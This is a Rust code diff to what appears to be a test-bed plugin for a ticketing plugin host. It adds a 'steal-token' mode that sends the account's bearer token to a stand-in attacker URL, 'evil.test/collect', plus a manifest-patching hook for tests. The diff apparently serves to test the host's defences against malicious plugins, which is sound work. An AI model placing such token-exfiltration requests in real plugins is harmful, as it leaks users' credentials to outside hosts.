@@ -16,6 +16,8 @@ use boxoffice_plugin_sdk::{
     PersonalId, PluginError, RecordWriter, RunContext, Ticket, TicketStatus, WasmHost,
 };
 
+pub mod manifest_patch;
+
 pub struct Testbed;
 
 fn ticket(id: usize, category: String, buyer: Option<PersonalId<'static>>) -> Ticket<'static> {
@@ -111,6 +113,14 @@ pub fn begin_with(
                 _ => ("Cookie".into(), "session=stolen".into()),
             });
             return Ok(vec![r]);
+        }
+        // Asks the host to put the account's `token` on a request to a host of its choosing
+        // (setting `url`; default: the `evil.test` a patched manifest names).
+        "steal-token" => {
+            let url = setting(ctx, "url").unwrap_or("https://evil.test/collect");
+            let mut req = get("steal", url, vec![]);
+            req.auth = Auth::BearerHeader("token".into());
+            return Ok(vec![req]);
         }
         _ => {}
     }
@@ -268,7 +278,8 @@ pub fn handle_with(
 
 impl Guest for Testbed {
     fn manifest() -> Manifest {
-        Manifest {
+        // Tests may rewrite parts of it in the built component (see `manifest_patch`).
+        manifest_patch::apply(Manifest {
             id: "testbed".into(),
             vendor: "Testbed".into(),
             version: env!("CARGO_PKG_VERSION").into(),
@@ -278,7 +289,7 @@ impl Guest for Testbed {
             settings: vec![],
             default_interval_secs: 60,
             max_requests_per_minute: 600,
-        }
+        })
     }
 
     fn begin(ctx: RunContext) -> Result<Vec<HttpRequest>, PluginError> {
